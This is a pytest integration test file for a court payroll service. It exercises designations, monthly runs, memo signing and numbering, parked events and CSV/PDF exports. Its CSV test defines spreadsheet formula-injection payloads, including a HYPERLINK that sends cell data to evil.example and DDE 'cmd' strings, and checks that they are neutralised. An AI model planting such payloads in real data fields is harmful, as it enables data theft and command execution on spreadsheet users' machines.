"""pagamentos-svc over HTTP and its queue on moto: records, refusals, the monthly run, memos and parked events.

Each test uses its own people (ids with a random suffix) and its own competências (distinct years), since
the table is shared by the session. Amounts use the default pay table (chalicelib.pagamentos.config.TabelaPagamentos):
juiz especial 39 753.22, juiz final 37 765.56, juiz inicial 35 877.28.
"""

from __future__ import annotations

import io
import json
import sys
import uuid
from datetime import date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import boto3
import pytest
from chalicelib.pagamentos.domain.model import Month
from pypdf import PdfReader

from courtlib.audit import Actor, acting_as
from courtlib.http.testing import bearer
from courtlib.messaging.contracts import CompensationUsed, CooperationBonusAssessed, new_event
from tests.integration.lambda_events import sqs_event
from tests.integration.requested_runs import run_requested

TZ = ZoneInfo("America/Sao_Paulo")
DIMAG = bearer("dimag.folha", "dimag")
PRESIDENCY = bearer("presidente", "presidencia")
ADMIN = bearer("admin.ti", "admin")
SERVANT = bearer("servidor.ana", "servidor")


@pytest.fixture
def client(client_of):
    return client_of("pagamentos")


@pytest.fixture
def deps(service_app):
    service_app("pagamentos")
    return sys.modules["pagamentos_app"].deps


@pytest.fixture
def calls(monkeypatch):
    """Every AWS operation made through botocore (a hook on the client's API call): to assert Query only."""
    import botocore.client

    seen: list[str] = []
    original = botocore.client.BaseClient._make_api_call

    def spy(self, operation, params):
        seen.append(operation)
        return original(self, operation, params)

    monkeypatch.setattr(botocore.client.BaseClient, "_make_api_call", spy)
    return seen


def suffix() -> str:
    return uuid.uuid4().hex[:6]


def send(client, method: str, path: str, body: dict | None = None, auth: dict = DIMAG, **headers):
    call = getattr(client.http, method)
    kwargs = {"headers": {"Content-Type": "application/json", **auth, **headers}}
    if body is not None:
        kwargs["body"] = json.dumps(body)
    return call(path, **kwargs)


def judge(client, pid: str, entrancia: str = "especial", juizo: str = "1VC-CBA", municipio: str = "5103403",
          nome: str | None = None) -> None:
    response = send(client, "put", f"/pessoas/{pid}", {"nome": nome or f"Juiz {pid}", "tipo": "magistrado",
                                                       "cargo": "juiz", "entrancia": entrancia, "juizo": juizo,
                                                       "municipio": municipio}, ADMIN)
    assert response.status_code == 200, response.body


def servant(client, pid: str) -> None:
    response = send(client, "put", f"/pessoas/{pid}", {"nome": f"Servidora {pid}", "tipo": "servidor",
                                                       "cargo": "servidor", "juizo": "1VC-CBA"}, ADMIN)
    assert response.status_code == 200, response.body


def run(client, competencia: str) -> dict:
    """The monthly run of ``competencia`` (the tests use far years, so the clock is put after them: PAG-01
    runs only finished months)."""
    deps = sys.modules["pagamentos_app"].deps
    saved = deps.clock
    deps.clock = lambda: datetime(2099, 1, 1, 12, tzinfo=TZ)
    try:
        response = send(client, "post", "/execucoes", {"competencia": competencia})
        assert response.status_code == 202, response.body
        status = json.loads(response.body)
        assert status["situacao"] == "pendente" and response.headers["Location"] == f"/execucoes/{competencia}"
        run_requested("pagamentos", status)  # the queue's delivery to the service's own consumer, in process
    finally:
        deps.clock = saved
    done = send(client, "get", f"/execucoes/{competencia}")
    assert done.status_code == 200, done.body
    body = json.loads(done.body)
    assert body["situacao"] == "concluida", body
    return {"competencia": competencia, **body["resumo"]}


@pytest.mark.parametrize("competencia", ["2026-07", "2026-08", "2030-01"])
def test_pag_01_a_month_not_yet_finished_is_not_run(client, deps, competencia):
    saved = deps.clock
    deps.clock = lambda: datetime(2026, 7, 31, 23, 59, tzinfo=TZ)
    try:
        response = send(client, "post", "/execucoes", {"competencia": competencia})
        finished = send(client, "post", "/execucoes", {"competencia": "2026-06"})
    finally:
        deps.clock = saved
    assert response.status_code == 422, response.body
    body = json.loads(response.body)
    assert body["code"] == "PAG-01" and body["field"] == "competencia" and "2026-07" in body["detail"]
    assert finished.status_code == 202, finished.body


def memo(client, memo_id: str) -> dict:
    response = send(client, "get", f"/memorandos/{memo_id}")
    assert response.status_code == 200, response.body
    return json.loads(response.body)


def lines_of(document: dict, pessoa: str) -> list[dict]:
    return [line for line in document["linhas"] if line["pessoa"] == pessoa]


def deliver(service_app, *payloads, twice: bool = False) -> None:
    handler = service_app("pagamentos").handler_map["consume_events"]
    events = [new_event(p, tribunal="TRE-MT", correlation_id="teste").model_dump_json() for p in payloads]
    for _ in range(2 if twice else 1):
        result = handler(sqs_event(events, "q", groups=[f"g{i}" for i in range(len(events))]), None)
        assert result == {"batchItemFailures": []}


def test_pag_02_designation_run_and_the_memo_as_json_csv_and_pdf(client, calls):
    """PAG-02 and PAG-11: cumulação 1..10/3/2031 of a juiz especial: 39 753.22 / 30 × 1/3 × 10 = 4 417.0244… → 4 417.02.
    The run reads by Query/GetItem only (no Scan)."""
    pid = f"jz.t{suffix()}"
    judge(client, pid, nome="Juiz André Alves")
    created = send(client, "post", "/designacoes", {"tipo": "cumulacao", "pessoa": pid, "juizo": f"2VC-{pid}",
                                                    "inicio": "2031-03-01", "fim": "2031-03-10"})
    assert created.status_code == 201, created.body
    calls.clear()
    result = run(client, "2031-03")
    assert "Scan" not in calls and "Query" in calls
    assert result["memorandos"]["cumulacao_juizes"]["resultado"] in ("gerado", "inalterado")
    document = memo(client, "2031-03-cumulacao_juizes")
    [line] = lines_of(document, pid)
    assert (line["valor"], line["regra"], line["quantidade"]) == ("4417.02", "PAG-02", "10")
    assert document["status"] == "rascunho" and Decimal(document["total"]) >= Decimal("4417.02")
    csv_response = send(client, "get", "/memorandos/2031-03-cumulacao_juizes/csv")
    assert csv_response.headers["Content-Type"].startswith("text/csv")
    rows = csv_response.body.decode().splitlines() if isinstance(csv_response.body, bytes) \
        else csv_response.body.splitlines()
    assert any(pid in row and "4417,02" in row for row in rows) and rows[-1].split(";")[5] == "TOTAL"  # decimal comma
    pdf = send(client, "get", "/memorandos/2031-03-cumulacao_juizes/pdf", Accept="application/pdf")
    assert pdf.status_code == 200 and pdf.headers["Content-Type"] == "application/pdf"
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf.body)).pages)
    assert "Juiz André Alves" in text and "R$ 4.417,02" in text and "Total do memorando" in text
    summary = json.loads(send(client, "get", "/resumos/2031-03").body)
    assert len(summary["memorandos"]) == 9 and Decimal(summary["total_geral"]) >= Decimal("4417.02")


def test_pag_01_running_twice_changes_nothing(client, calls, deps):
    """The second run of the same month changes no memo, and the run itself writes nothing (no Put/BatchWrite/
    Transact call: the request asked over HTTP writes only its own status)."""
    pid = f"jz.t{suffix()}"
    judge(client, pid)
    send(client, "post", "/designacoes", {"tipo": "diarias", "pessoa": pid, "juizo": f"VU-{pid}",
                                          "municipio": "5103007", "inicio": "2032-03-22", "fim": "2032-03-26"})
    first = run(client, "2032-03")
    before = memo(client, "2032-03-diarias")
    second = run(client, "2032-03")
    assert all(v["resultado"] == "inalterado" for v in second["memorandos"].values())
    calls.clear()
    third = deps.service.run(Month(2032, 3))
    writes = [c for c in calls if c in ("PutItem", "BatchWriteItem", "TransactWriteItems", "UpdateItem", "DeleteItem")]
    assert writes == [] and "Scan" not in calls
    assert all(v["resultado"] == "inalterado" for v in third["memorandos"].values())
    assert memo(client, "2032-03-diarias") == before
    # 22..26/3/2032 Mon–Fri, 26/3 Good Friday: 4 dias úteis × 1 100.00 = 4 400.00 (PAG-06)
    assert lines_of(before, pid)[0]["valor"] == "4400.00" and first["competencia"] == "2032-03"


def test_refusals_write_nothing(client):
    pid = f"jz.t{suffix()}"
    judge(client, pid)
    body = {"tipo": "cumulacao", "pessoa": pid, "juizo": f"J-{pid}", "inicio": "2033-01-01", "fim": "2033-01-31"}
    assert send(client, "post", "/designacoes", body).status_code == 201
    overlapping = send(client, "post", "/designacoes", {**body, "inicio": "2033-01-31", "fim": "2033-02-10"})
    problem = json.loads(overlapping.body)
    assert overlapping.status_code == 409 and problem["code"] == "DESIGNACAO_SOBREPOSTA"
    assert overlapping.headers["Content-Type"] == "application/problem+json"
    impossible = send(client, "post", "/designacoes", {**body, "juizo": "OUTRO", "inicio": "2033-02-10",
                                                       "fim": "2033-02-01"})
    assert impossible.status_code == 422
    unknown = send(client, "post", "/designacoes", {**body, "pessoa": "ninguem", "juizo": "X"})
    assert unknown.status_code == 422 and json.loads(unknown.body)["code"] == "PESSOA_DESCONHECIDA"
    listed = json.loads(send(client, "get", f"/pessoas/{pid}/designacoes").body)["itens"]
    assert len(listed) == 1
    assert send(client, "post", "/execucoes", {"competencia": "2033-01"}, SERVANT).status_code == 403
    assert send(client, "post", "/execucoes", {"competencia": "2033-01"}, PRESIDENCY).status_code == 403
    assert send(client, "post", "/memorandos/2033-01-ferias/assinatura", auth=DIMAG).status_code == 403
    assert send(client, "get", "/memorandos/2033-01-nada").status_code == 404
    openapi = json.loads(client.http.get("/openapi.json").body)
    assert {"/designacoes", "/execucoes", "/memorandos/{memorando}/pdf", "/estacionados"} <= set(openapi["paths"])


def test_pag_10_lifecycle_and_a_late_event_becomes_an_adjustment(client, service_app, deps):
    """Cooperation of March/2034 = 1 800.00 sent; a late ajuste of −90.00 and a late assessment of another
    servant (450.00) arrive → April's memo carries them as adjustments (360.00), once, even when the events
    are delivered twice and the run repeated; after April is signed, May has no adjustment."""
    ana, bia = f"sv.a{suffix()}", f"sv.b{suffix()}"
    servant(client, ana), servant(client, bia)

    def bonus(who, id_, natureza, revisao, minutos, valor, competencia="2034-03"):
        return CooperationBonusAssessed(apuracao_id=id_, servidor=who, nome=who, competencia=competencia,
                                        natureza=natureza, revisao=revisao, minutos=minutos,
                                        valor_hora=Decimal("45.00"), valor=Decimal(valor))

    deliver(service_app, bonus(ana, f"{ana}-r1", "apuracao", 1, 2400, "1800.00"), twice=True)
    run(client, "2034-03")
    march = memo(client, "2034-03-gratificacao_cooperacao")
    assert [ln["valor"] for ln in lines_of(march, ana)] == ["1800.00"]
    assert send(client, "post", "/memorandos/2034-03-gratificacao_cooperacao/envio").status_code == 409  # unsigned
    assert send(client, "post", "/memorandos/2034-03-gratificacao_cooperacao/assinatura").status_code == 403  # dimag
    signed = send(client, "post", "/memorandos/2034-03-gratificacao_cooperacao/assinatura", auth=PRESIDENCY)
    assert signed.status_code == 200 and json.loads(signed.body)["assinado_por"] == "presidente"
    edit = send(client, "patch", "/memorandos/2034-03-gratificacao_cooperacao", {"observacao": "x"})
    assert edit.status_code == 409 and json.loads(edit.body)["code"] == "PAG-10"
    sent = json.loads(send(client, "post", "/memorandos/2034-03-gratificacao_cooperacao/envio").body)
    assert sent["status"] == "enviado"
    s3 = boto3.client("s3", region_name="sa-east-1")
    pdf = s3.get_object(Bucket=deps.settings.documents_bucket, Key=sent["documentos"]["pdf_chave"])["Body"].read()
    assert "R$ 1.800,00" in "".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf)).pages)

    deliver(service_app, bonus(ana, f"{ana}-r2", "ajuste", 2, -120, "-90.00"),
            bonus(bia, f"{bia}-r1", "apuracao", 1, 600, "450.00"), twice=True)
    run(client, "2034-03")  # the sent memo stays as it was
    assert memo(client, "2034-03-gratificacao_cooperacao")["linhas"] == march["linhas"]
    run(client, "2034-04")
    run(client, "2034-04")
    april = memo(client, "2034-04-gratificacao_cooperacao")
    adjustments = {(ln["pessoa"], ln["valor"], ln["competencia_origem"]) for ln in april["linhas"] if ln["ajuste"]}
    assert {(ana, "-90.00", "2034-03"), (bia, "450.00", "2034-03")} <= adjustments
    assert len([ln for ln in april["linhas"] if ln["pessoa"] in (ana, bia)]) == 2
    run(client, "2034-05")  # April is still a draft: the adjustment stays there, May does not repeat it
    assert [ln for ln in memo(client, "2034-05-gratificacao_cooperacao")["linhas"] if ln["pessoa"] in (ana, bia)] == []
    assert send(client, "post", "/memorandos/2034-04-gratificacao_cooperacao/assinatura",
                auth=PRESIDENCY).status_code == 200
    run(client, "2034-05")
    may = memo(client, "2034-05-gratificacao_cooperacao")
    assert [ln for ln in may["linhas"] if ln["pessoa"] in (ana, bia)] == []


def test_unknown_person_is_parked_listed_and_replayed(client, service_app):
    """A compensation for a substitute not registered → parked with its reason (no batch failure);
    replaying before the registration → 409 and it stays; after → applied, and PAG-02 pays it:
    7/3/2035 (Wednesday) → 39 753.22 / 30 × 1/3 = 441.702… → 441.70."""
    pid = f"jz.t{suffix()}"
    event = CompensationUsed(compensacao_id=f"cmp-{pid}", magistrado="jz.outro", nome="Outro", juizo="2VC-CBA",
                             substituto=pid, substituto_nome="Juiz Novo", juizo_substituto="1VC-CBA",
                             dias=[datetime(2035, 3, 7).date()], aprovado_em=datetime(2035, 2, 20, tzinfo=TZ),
                             aprovado_por="presidente")
    deliver(service_app, event)
    parked = json.loads(send(client, "get", "/estacionados").body)["itens"]
    mine = [p for p in parked if p["evento"]["data"].get("substituto") == pid]
    assert len(mine) == 1 and "não cadastrado" in mine[0]["motivo"] and mine[0]["codigo"] == "PESSOA_DESCONHECIDA"
    event_id = mine[0]["id"]
    refused = send(client, "post", f"/estacionados/{event_id}/reprocessar")
    assert refused.status_code == 409
    judge(client, pid)
    assert send(client, "post", f"/estacionados/{event_id}/reprocessar").status_code == 200
    assert send(client, "post", f"/estacionados/{event_id}/reprocessar").status_code == 404
    assert all(p["id"] != event_id for p in json.loads(send(client, "get", "/estacionados").body)["itens"])
    run(client, "2035-03")
    assert [ln["valor"] for ln in lines_of(memo(client, "2035-03-cumulacao_juizes"), pid)] == ["441.70"]


SCHEDULED = {"version": "0", "id": "e-1", "detail-type": "Scheduled Event", "source": "aws.events",
             "account": "123456789012", "time": "2036-04-05T09:00:00Z", "region": "sa-east-1",
             "resources": ["arn:aws:events:sa-east-1:123456789012:rule/x"], "detail": {}}


def test_pag_01_schedule_runs_the_previous_month_on_the_configured_day(service_app, deps):
    handler = service_app("pagamentos").handler_map["monthly_run"]
    saved = deps.clock
    try:
        deps.clock = lambda: datetime(2036, 4, 4, 6, tzinfo=TZ)
        assert handler(SCHEDULED, None)["executado"] is False
        deps.clock = lambda: datetime(2036, 4, 5, 6, tzinfo=TZ)
        result = handler(SCHEDULED, None)
        assert result["executado"] is True and result["competencia"] == "2036-03"
    finally:
        deps.clock = saved


def test_pag_10_a_memo_signed_during_a_run_keeps_what_was_signed(client, deps, monkeypatch):
    """The President signs while a run rebuilds the draft: the run's new generation never becomes current.
    Signed: 5 days × 39 753.22/30 × 1/3 = 5 × 441.7024… = 2 208.512 → 2 208.51. The 3 days added later are
    paid in April as an adjustment: March recomputed = 8 × 441.7024… = 3 533.619 → 3 533.62; minus 2 208.51
    = 1 325.11."""
    pid = f"jz.t{suffix()}"
    judge(client, pid)
    memo_name = "2037-03-cumulacao_juizes"
    for start, end, juizo in (("2037-03-01", "2037-03-05", "A"), ("2037-03-20", "2037-03-22", "B")):
        if juizo == "B":
            run(client, "2037-03")
        assert send(client, "post", "/designacoes", {"tipo": "cumulacao", "pessoa": pid, "juizo": f"{juizo}-{pid}",
                                                     "inicio": start, "fim": end}).status_code == 201
    original = deps.repository.write_generation

    def racing(memo_id, category, generation, lines):
        if memo_id == memo_name:
            deps.service.sign(memo_id, "presidente")
        return original(memo_id, category, generation, lines)

    monkeypatch.setattr(deps.repository, "write_generation", racing)
    result = run(client, "2037-03")
    monkeypatch.setattr(deps.repository, "write_generation", original)
    assert result["memorandos"]["cumulacao_juizes"]["resultado"].startswith("conflito")
    signed = memo(client, memo_name)
    assert signed["status"] == "assinado" and [ln["valor"] for ln in lines_of(signed, pid)] == ["2208.51"]
    assert set(deps.repository.generations(memo_name)) == {signed["geracao"]}  # no orphan left
    run(client, "2037-04")
    april = memo(client, "2037-04-cumulacao_juizes")
    assert [(ln["valor"], ln["ajuste"]) for ln in lines_of(april, pid)] == [("1325.11", True)]


def test_pag_05_vacation_after_six_months_of_full_substitution_over_http(client):
    """Juiz inicial (35 877.28) in full substitution in especial (39 753.22) 1/1..29/6/2038 = 31+28+31+30+31+29
    = 180 days; vacation 3/8..1/9/2038: August has 29 of its days → (39 753.22 − 35 877.28)/30 × 29 =
    129.198 × 29 = 3 746.742 → 3 746.74; the terço (PAG-09) of the 30 days: 35 877.28/3 = 11 959.09."""
    pid = f"jz.t{suffix()}"
    judge(client, pid, entrancia="inicial", juizo=f"VU-{pid}", municipio="5103007")
    assert send(client, "post", "/designacoes", {"tipo": "substituicao", "pessoa": pid, "juizo": f"1VC-{pid}",
                                                 "entrancia_destino": "especial", "plena": True,
                                                 "inicio": "2038-01-01", "fim": "2038-06-29"}).status_code == 201
    assert send(client, "post", "/ferias", {"pessoa": pid, "inicio": "2038-08-03", "fim": "2038-09-01"}
                ).status_code == 201
    run(client, "2038-08")
    assert [ln["valor"] for ln in lines_of(memo(client, "2038-08-diferenca_entrancia"), pid)] == ["3746.74"]
    assert [ln["valor"] for ln in lines_of(memo(client, "2038-08-ferias"), pid)] == ["11959.09"]


def test_bulk_import_is_all_or_nothing(client):
    """A batch whose second designation overlaps a stored one is refused (409) and registers nobody; the same
    batch without it imports both people and the designation, and importing it again creates nothing new."""
    a, b = f"jz.t{suffix()}", f"jz.t{suffix()}"
    judge(client, a)
    juizo = f"J-{a}"
    assert send(client, "post", "/designacoes", {"tipo": "cumulacao", "pessoa": a, "juizo": juizo,
                                                 "inicio": "2039-01-01", "fim": "2039-01-31"}).status_code == 201
    person = {"id": b, "nome": "Juíza Nova", "tipo": "magistrado", "cargo": "juiz", "entrancia": "final"}
    good = {"id": f"imp-{b}", "tipo": "diarias", "pessoa": b, "juizo": "VU-CHA", "municipio": "5103007",
            "inicio": "2039-01-10", "fim": "2039-01-12"}
    bad = {"id": f"imp2-{b}", "tipo": "cumulacao", "pessoa": b, "juizo": juizo, "inicio": "2039-01-20",
           "fim": "2039-02-05"}
    refused = send(client, "post", "/importacao", {"pessoas": [person], "designacoes": [good, bad]}, ADMIN)
    assert refused.status_code == 409 and json.loads(refused.body)["field"] == "designacoes[1]"
    assert send(client, "get", f"/pessoas/{b}").status_code == 404
    assert send(client, "get", f"/designacoes/imp-{b}").status_code == 404
    done = send(client, "post", "/importacao", {"pessoas": [person], "designacoes": [good]}, ADMIN)
    assert json.loads(done.body) == {"pessoas": 1, "designacoes_criadas": 1}
    again = send(client, "post", "/importacao", {"pessoas": [person], "designacoes": [good]}, ADMIN)
    assert json.loads(again.body) == {"pessoas": 1, "designacoes_criadas": 0}


def test_pag_03_absences_from_distribuicao_and_the_ten_percent(client, service_app):
    """10 desembargadores/JDS; distribuicao reports des 0 away 1..4/3/2040 (4 days) and des 1 away 10..12/3
    (3 days): 2 of 10 = 20 % > 10 % → the 9 away at most 3 days get 41 845.49 / 3 = 13 948.496… → 13 948.50;
    des 0 gets nothing. Plantões are kept and listed; one for an unknown judge is parked."""
    from courtlib.messaging.contracts import DutyServed, MagistrateAbsenceRegistered

    tag = suffix()
    people = [{"id": f"des.{tag}{n}", "nome": f"Des. {n}", "tipo": "magistrado",
               "cargo": "desembargador" if n < 8 else "jds"} for n in range(10)]
    assert send(client, "post", "/importacao", {"pessoas": people}, ADMIN).status_code == 200

    def away(n, start, end):
        return MagistrateAbsenceRegistered(orgao="PLENO", magistrado=f"des.{tag}{n}", nome=f"Des. {n}",
                                           inicio=date.fromisoformat(start), fim=date.fromisoformat(end),
                                           motivo="licença")

    def duty(who):
        return DutyServed(plantao_id=f"p-{who}", escala_id="e", tipo="segundo_grau", magistrado=who, nome=who,
                          data=date(2040, 3, 3), inicio=datetime(2040, 3, 3, 18, tzinfo=TZ),
                          fim=datetime(2040, 3, 4, 11, tzinfo=TZ), dia_util=True, dias_credito=0)

    deliver(service_app, away(0, "2040-03-01", "2040-03-04"), away(1, "2040-03-10", "2040-03-12"),
            duty(f"des.{tag}2"), duty(f"des.{tag}x"), twice=True)
    run(client, "2040-03")
    lines = {ln["pessoa"]: ln["valor"] for ln in memo(client, "2040-03-cumulacao_desembargadores")["linhas"]}
    assert lines == {f"des.{tag}{n}": "13948.50" for n in range(1, 10)}
    duties = json.loads(send(client, "get", "/plantoes?competencia=2040-03").body)["itens"]
    assert [d["magistrado"] for d in duties] == [f"des.{tag}2"]
    parked = json.loads(send(client, "get", "/estacionados?limite=200").body)["itens"]
    assert [p["evento"]["data"]["magistrado"] for p in parked
            if p["evento"]["data"].get("plantao_id") == f"p-des.{tag}x"] == [f"des.{tag}x"]


def test_pag_10_an_empty_draft_in_between_does_not_hold_the_adjustment(client, service_app):
    """March/2041 sent with 1 800.00; April's cooperation memo is an empty draft nobody signs; a late 450.00 for
    March arrives → May carries it (+450.00); re-running April afterwards does not repeat it."""
    ana = f"sv.a{suffix()}"
    servant(client, ana)

    def bonus(id_, valor, minutos):
        return CooperationBonusAssessed(apuracao_id=id_, servidor=ana, nome=ana, competencia="2041-03",
                                        natureza="apuracao" if id_.endswith("r1") else "ajuste",
                                        revisao=1 if id_.endswith("r1") else 2, minutos=minutos,
                                        valor_hora=Decimal("45.00"), valor=Decimal(valor))

    deliver(service_app, bonus(f"{ana}-r1", "1800.00", 2400))
    run(client, "2041-03")
    assert send(client, "post", "/memorandos/2041-03-gratificacao_cooperacao/assinatura",
                auth=PRESIDENCY).status_code == 200
    assert send(client, "post", "/memorandos/2041-03-gratificacao_cooperacao/envio").status_code == 200
    run(client, "2041-04")
    deliver(service_app, bonus(f"{ana}-r2", "450.00", 600))
    run(client, "2041-05")
    may = [(ln["valor"], ln["competencia_origem"]) for ln in memo(client, "2041-05-gratificacao_cooperacao")["linhas"]
           if ln["pessoa"] == ana]
    assert may == [("450.00", "2041-03")]
    run(client, "2041-04")
    assert [ln for ln in memo(client, "2041-04-gratificacao_cooperacao")["linhas"] if ln["pessoa"] == ana] == []


# --- PAG-11: the payroll CSV (pt-BR spreadsheet, no formula injection) and the memo's number -----------------

INJECTIONS = ('=HYPERLINK("http://evil.example/?x="&A1,"clique")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
              "-2+3", "\tSUM(1,2) Ana", "\r=1+1 Bia", "=1+1")


def _csv_rows(body) -> list[list[str]]:
    import csv

    text = body.decode("utf-8") if isinstance(body, bytes) else body
    assert text.startswith("\ufeff")  # UTF-8 BOM
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


def test_pag_11_names_arriving_with_the_gratificacao_event_never_start_a_csv_cell_raw(client, service_app):
    """Seven formula payloads as servant names (registered and carried by CooperationBonusAssessed) reach the
    CSV neutralised (a leading '); the amounts, negative ones included, stay numbers with a decimal comma."""
    month = "2035-03"
    people = []
    for n, name in enumerate(INJECTIONS):
        pid = f"sv.inj{n}{suffix()}"
        response = send(client, "put", f"/pessoas/{pid}", {"nome": name, "tipo": "servidor", "cargo": "servidor",
                                                           "juizo": "1VC-CBA"}, ADMIN)
        assert response.status_code == 200, response.body
        people.append(pid)
    deliver(service_app, *[CooperationBonusAssessed(
        apuracao_id=f"{pid}-a", servidor=pid, nome=name, competencia=month, natureza="apuracao", revisao=1,
        minutos=630, valor_hora=Decimal("45.00"), valor=Decimal("472.50"))
        for pid, name in zip(people, INJECTIONS, strict=True)])
    run(client, month)
    response = send(client, "get", f"/memorandos/{month}-gratificacao_cooperacao/csv")
    assert response.status_code == 200
    rows = _csv_rows(response.body)
    header, body = rows[0], rows[1:]
    ours = [r for r in body if r[header.index("matricula")] in people]
    assert len(ours) == 7
    for row in body:
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row if c != row[8]), row
    assert sorted(r[header.index("nome")] for r in ours) == sorted("'" + name for name in INJECTIONS)
    assert {r[header.index("valor")] for r in ours} == {"472,50"}
    assert {r[header.index("base")] for r in ours} == {"apuração: 630 min × R$ 45,00/h"}
    plain = send(client, "get", f"/memorandos/{month}-gratificacao_cooperacao/csv?formato=simples")
    text = plain.body.decode() if isinstance(plain.body, bytes) else plain.body
    assert not text.startswith("\ufeff") and text.startswith("memorando,competencia,") and '"472.50"' not in text


def test_pag_11_memo_numbers_per_division_and_year_given_at_signature_without_gaps(client):
    """PAG-11: drafts have no number; each signature takes the next of DIMAG in the year of signature, in order."""
    for competencia in ("2036-01", "2036-02", "2036-03"):
        run(client, competencia)
    drafts = [memo(client, f"{c}-cumulacao_juizes") for c in ("2036-01", "2036-02", "2036-03")]
    assert all(d["numero"] is None for d in drafts)
    labels = []
    for c in ("2036-01", "2036-02", "2036-03"):
        signed = send(client, "post", f"/memorandos/{c}-cumulacao_juizes/assinatura", auth=PRESIDENCY)
        assert signed.status_code == 200, signed.body
        labels.append(json.loads(signed.body)["numero"])
        year = json.loads(signed.body)["assinado_em"][:4]
    numbers = [int(label.split("nº ")[1].split("/")[0]) for label in labels]
    assert numbers == list(range(numbers[0], numbers[0] + 3))
    assert all(label.endswith(f"/{year} – DIMAG") for label in labels)
    again = send(client, "post", "/memorandos/2036-01-cumulacao_juizes/assinatura", auth=PRESIDENCY)
    assert again.status_code == 409 and memo(client, "2036-01-cumulacao_juizes")["numero"] == labels[0]
    pdf = send(client, "get", "/memorandos/2036-01-cumulacao_juizes/pdf", Accept="application/pdf")
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf.body)).pages)
    assert labels[0].replace("–", "-") in text and "Desembargador Carlos Almeida" in text
    rows = _csv_rows(send(client, "get", "/memorandos/2036-01-cumulacao_juizes/csv").body)
    assert {r[rows[0].index("numero")] for r in rows[1:]} == {labels[0]}


def test_pag_11_a_signature_that_lost_the_race_for_a_number_takes_the_next_one(client, deps, monkeypatch):
    """Two signatures read the same last number; the second one commits first. The first one's conditional
    write on the counter fails, it reads again and takes the next number: no duplicate, no gap. (moto does not
    isolate concurrent transactions of threads, so the race is interleaved by hand at the counter read.)"""
    run(client, "2037-01")
    first, second = "2037-01-ferias", "2037-01-diarias"
    repository = deps.service.repository
    real = repository.memo_counter
    reads: list[int] = []

    def racing_read(division, year):
        read = real(division, year)
        reads.append(read[1])
        if len(reads) == 1:  # the first signature has read the counter: the second signs before it commits
            monkeypatch.setattr(repository, "memo_counter", real)
            deps.service.sign(second, "presidente")
            monkeypatch.setattr(repository, "memo_counter", racing_read)
        return read

    monkeypatch.setattr(repository, "memo_counter", racing_read)
    with acting_as(Actor.user("sub-presidente", "presidente", ["presidencia"])):  # the use case, not the route
        signed = deps.service.sign(first, "presidente")
    assert len(reads) == 2 and reads[1] == reads[0] + 1  # it lost once and read again
    other = repository.memo_headers_of_month("2037-01")["diarias"]
    assert (other.number, signed.header.number) == (reads[0] + 1, reads[0] + 2)
    assert [memo(client, i)["numero"].split("/")[0] for i in (second, first)] == [
        f"Memorando nº {reads[0] + 1}", f"Memorando nº {reads[0] + 2}"]
